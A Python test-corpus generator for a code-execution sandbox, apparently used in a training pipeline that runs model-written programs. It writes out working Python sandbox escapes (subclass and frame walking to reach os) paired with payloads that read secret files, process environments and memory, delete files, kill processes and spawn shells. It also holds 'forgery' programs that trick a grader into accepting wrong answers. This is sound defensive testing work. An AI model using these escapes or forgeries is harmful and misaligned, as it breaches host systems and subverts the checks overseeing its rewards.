"""The generated part of the hostile corpus: every way out we know, times every thing to do outside.

Each escape route below reaches the real `os` module's globals (and through `sys.modules`, ctypes)
from inside a child. In `raw` mode (the static check and the audit hook skipped) the route always
works, so what the payload does is held by the kernel layers alone; in `proposal` mode the same
programs must also be refused or contained by the whole pipeline. Payloads return 'PWNED' only
when the forbidden act succeeded; `harness.Host` also looks for the act's effects on the host.

Placeholders are filled by the harness: {hostdir} {canary} {victim} {secretfile} {marker} {port}
{unix} {pid} {rand1} {rand2}.
"""

from __future__ import annotations

import textwrap
from typing import Any

ESCAPES = {
    # the classic: a class defined in `os` whose method's globals are os's namespace
    "subclasses": "os = [c for c in ().__class__.__base__.__subclasses__()"
    " if c.__name__ == '_wrap_close'][0].__init__.__globals__",
    # frames up from a traceback into the zygote's own code (`_worker`'s globals hold `os`)
    "frames": (
        "try:\n"
        "    1 / 0\n"
        "except ZeroDivisionError as exc:\n"
        "    fr = exc.__traceback__.tb_frame\n"
        "while fr.f_back is not None and 'os' not in fr.f_globals:\n"
        "    fr = fr.f_back\n"
        "os = fr.f_globals['os'].__dict__"
    ),
}
_CTYPES = "ct = os['sys'].modules['ctypes']\nlibc = ct.CDLL(None, use_errno=True)\n"
PAYLOADS = {
    "write_marker": "fd = os['open']('{marker}', os['O_CREAT'] | os['O_WRONLY'], 0o666)\n"
    "os['write'](fd, b'pwned')\nreturn 'PWNED'",
    "append_canary": "fd = os['open']('{canary}', os['O_WRONLY'] | os['O_APPEND'])\n"
    "os['write'](fd, b'x')\nreturn 'PWNED'",
    "truncate_canary": "os['truncate']('{canary}', 0)\nreturn 'PWNED'",
    "unlink_victim": "os['unlink']('{victim}')\nreturn 'PWNED'",
    "rename_victim": "os['rename']('{victim}', '{hostdir}/moved')\nreturn 'PWNED'",
    "chmod_victim": "os['chmod']('{victim}', 0o600)\nreturn 'PWNED'",
    "mkdir_in_host": "os['mkdir']('{hostdir}/made')\nreturn 'PWNED'",
    "symlink_in_host": "os['symlink']('/etc/passwd', '{hostdir}/link')\nreturn 'PWNED'",
    "hardlink_victim": "os['link']('{victim}', '{hostdir}/hard')\nreturn 'PWNED'",
    "read_secret_file": "fd = os['open']('{secretfile}', os['O_RDONLY'])\nreturn os['read'](fd, 200).decode()",
    "read_trainer_environ": "fd = os['open']('/proc/{pid}/environ', os['O_RDONLY'])\n"
    "return os['read'](fd, 1 << 20).decode(errors='replace')[-380:]",
    "read_trainer_memory": "fd = os['open']('/proc/{pid}/mem', os['O_RDONLY'])\nreturn 'PWNED'",
    "read_self_environ_via_proc": "fd = os['open']('/proc/self/environ', os['O_RDONLY'])\nreturn 'PWNED'",
    "list_host_dir": "return str(os['listdir']('{hostdir}'))",
    "stat_victim": "os['stat']('{victim}')\nreturn 'PWNED'",
    "access_victim": "return 'PWNED' if os['access']('{victim}', 0) else 'no'",
    "tcp_connect": _CTYPES + "fd = libc.socket(2, 1, 0)\n"
    "addr = bytes([2, 0, {port} >> 8, {port} & 255, 127, 0, 0, 1]) + bytes(8)\n"
    "return 'PWNED' if libc.connect(fd, addr, 16) == 0 else ct.get_errno()",
    "unix_connect": _CTYPES + "fd = libc.socket(1, 1, 0)\n"
    "addr = bytes([1, 0]) + b'\\0' + b'{unix}'\n"
    "return 'PWNED' if libc.connect(fd, addr, len(addr)) == 0 else ct.get_errno()",
    "socket_module_import": "s = os['sys'].modules['builtins'].__import__('socket')\n"
    "c = s.create_connection(('127.0.0.1', {port}))\nreturn 'PWNED'",
    "signal_trainer": "os['kill']({pid}, 10)\nreturn 'PWNED'",
    "signal_process_group": "os['kill'](0, 12)\nreturn 'PWNED'",
    "signal_zygote": "os['kill'](os['getppid'](), 9)\nreturn 'PWNED'",
    "fork": "pid = os['fork']()\nif pid == 0:\n    os['_exit'](0)\nreturn 'PWNED'",
    "system": "return 'PWNED' if os['system']('touch {marker}') == 0 else 'denied'",
    "execv": "os['execv']('/bin/sh', ['sh', '-c', 'touch {marker}'])",
    "posix_spawn": "os['posix_spawn']('/bin/touch', ['touch', '{marker}'], {})\nreturn 'PWNED'",
    "ptrace_attach": _CTYPES + "return 'PWNED' if libc.ptrace(16, {pid}, 0, 0) == 0 else ct.get_errno()",
    "process_vm_readv": _CTYPES + "buf = ct.create_string_buffer(8)\n"
    "local = (ct.c_void_p * 2)(ct.cast(buf, ct.c_void_p), 8)\n"
    "remote = (ct.c_void_p * 2)(4194304, 8)\n"
    "n = libc.process_vm_readv({pid}, local, 1, remote, 1, 0)\n"
    "return 'PWNED' if n >= 0 or ct.get_errno() != 1 else 'denied'",
    "mmap_executable": _CTYPES + "libc.mmap.restype = ct.c_void_p\n"
    "m = libc.mmap(None, 4096, 7, 0x22, -1, 0)\n"
    "return 'PWNED' if m not in (None, ct.c_void_p(-1).value) else 'denied'",
    "mprotect_executable": _CTYPES + "buf = ct.create_string_buffer(8192)\n"
    "page = (ct.addressof(buf) + 4095) & ~4095\n"
    "return 'PWNED' if libc.mprotect(ct.c_void_p(page), 4096, 7) == 0 else 'denied'",
    "memfd_create": _CTYPES + "return 'PWNED' if libc.memfd_create(b'x', 0) >= 0 else 'denied'",
    "io_uring_setup": _CTYPES + "buf = ct.create_string_buffer(120)\n"
    "return 'PWNED' if libc.syscall(425, 8, buf) >= 0 else 'denied'",
    "unshare_user_namespace": _CTYPES + "return 'PWNED' if libc.unshare(0x10000000) == 0 else 'denied'",
    "make_dumpable": _CTYPES + "return 'PWNED' if libc.prctl(4, 1, 0, 0, 0) == 0 else 'denied'",
    "chmod_jail_then_write": "os['chmod']('.', 0o777)\n"
    "fd = os['open']('x', os['O_CREAT'] | os['O_WRONLY'], 0o666)\nreturn 'PWNED'",
    "raise_nproc_limit": "r = os['sys'].modules['resource']\nr.setrlimit(r.RLIMIT_NPROC, (50, 50))\nreturn 'PWNED'",
    "pipe_flood": "while True:\n    os['write'](3, b'x' * 65536)",
    "huge_output_after_escape": "os['write'](3, (60004).to_bytes(4, 'big') + b'ok\\0' + b'1' * 60001)\n"
    "os['_exit'](0)",
}


def _program(escape: str, payload: str) -> str:
    body = textwrap.indent(escape + "\n" + payload, "    ")
    return f"def f(x):\n{body}\n"


# Attempts to make a wrong answer count as right. Each runs with hidden pairs whose outputs are
# random numbers ({rand1}, {rand2}) that no program can know: any True is a forged verdict.
FORGERIES = {
    "always_equal_object": "class E:\n    def __eq__(self, other):\n        return True\n"
    "def f(x):\n    return E()",
    "int_subclass_equal": "class I(int):\n    def __eq__(self, other):\n        return True\n"
    "def f(x):\n    return I(1)",
    "list_subclass_equal": "class L(list):\n    def __eq__(self, other):\n        return True\n"
    "def f(x):\n    return L()",
    "nan_output": "def f(x):\n    return float('nan')",
    "read_answer_from_stack": "def f(x):\n"
    "    try:\n        1 / 0\n    except ZeroDivisionError as exc:\n        fr = exc.__traceback__.tb_frame\n"
    "    seen = []\n    while fr is not None:\n        seen.append(repr(fr.f_locals))\n        fr = fr.f_back\n"
    "    return ' '.join(seen)[-300:]",
    "forged_frame_then_exit": "def f(x):\n    " + ESCAPES["subclasses"] + "\n"
    "    body = b'ok\\0True'\n    os['write'](3, len(body).to_bytes(4, 'big') + body)\n    os['_exit'](0)",
    "two_frames": "def f(x):\n    " + ESCAPES["subclasses"] + "\n"
    "    body = b'ok\\0True'\n    os['write'](3, len(body).to_bytes(4, 'big') + body)\n    return x",
    "finaliser_writes_a_frame": "class D:\n    def __del__(self):\n        " + ESCAPES["subclasses"] + "\n"
    "        body = b'ok\\0True'\n        os['write'](3, len(body).to_bytes(4, 'big') + body)\n"
    "def f(x):\n    d = D()\n    d.me = d\n    del d\n    return [0] * 10",
    "exit_before_answer": "def f(x):\n    " + ESCAPES["subclasses"] + "\n    os['_exit'](0)",
    "scan_zygote_memory_for_answers": "def f(x):\n    " + ESCAPES["frames"] + "\n"
    "    g = fr.f_globals\n    return repr(sorted(k for k in g))[:300]",
}

# Inputs that used to raise out of the pool (RecursionError) or that no pool should choke on.
DEEP = "x+" * 340 + "x"
CRASHERS: list[dict[str, Any]] = [
    {"name": "deep_expression_program", "code": f"def f(x):\n    return {DEEP}"},
    {"name": "deep_expression_input", "code": "def f(x):\n    return x", "input": "1" + "+1" * 1990},
    {"name": "deep_brackets_input", "code": "def f(x):\n    return x", "input": "[" * 900 + "]" * 900},
    {"name": "surrogate_in_program", "code": "def f(x):\n    return '\ud800'"},
    {"name": "surrogate_output", "code": "def f(x):\n    return chr(0xD800)"},
    {"name": "nul_in_input", "code": "def f(x):\n    return x", "input": "'a\x00b'"},
    {"name": "huge_int_output", "code": "def f(x):\n    return 10 ** 100000"},
    {"name": "program_over_the_size_cap", "code": "def f(x):\n    return 1\n" + "# pad\n" * 6000},
    {
        "name": "deep_gold_output",
        "mode": "abduction",
        "code": "def f(x):\n    return x",
        "input": "1",
        "gold": "[" * 900 + "]" * 900,
    },
    {
        "name": "huge_gold_output",
        "mode": "abduction",
        "code": "def f(x):\n    return x",
        "input": "1",
        "gold": "[" + "1, " * 12000 + "]",
    },
    {
        "name": "deep_expression_in_abduction_input",
        "mode": "abduction",
        "code": "def f(x):\n    return x",
        "input": DEEP.replace("x", "1"),
        "gold": "340",  # the sum is 341
    },
    {
        "name": "malformed_induction_pairs",
        "mode": "induction",
        "code": "def f(x):\n    return x",
        "pairs": [["1)", "1"], ["", "{rand1}"], ["2", "[" * 900]],
    },
]


def corpus() -> list[dict[str, Any]]:
    entries: list[dict[str, Any]] = []
    for route, escape in ESCAPES.items():
        for name, payload in PAYLOADS.items():
            code = _program(escape, payload)
            entries.append({"name": f"raw_{route}_{name}", "mode": "raw", "code": code})
            if route == "subclasses":  # the whole pipeline must refuse or contain it too
                entries.append({"name": f"proposal_{name}", "mode": "proposal", "code": code})
    pairs = [["1", "{rand1}"], ["2", "{rand2}"]]
    for name, code in FORGERIES.items():
        entries.append({"name": f"forge_{name}", "mode": "raw_induction", "code": code, "pairs": pairs})
        entries.append({"name": f"forge_checked_{name}", "mode": "induction", "code": code, "pairs": pairs})
        entries.append(
            {"name": f"forge_abduction_{name}", "mode": "abduction", "code": code, "gold": "{rand1}"}
        )
    return entries + [{"mode": "proposal", **entry} for entry in CRASHERS]
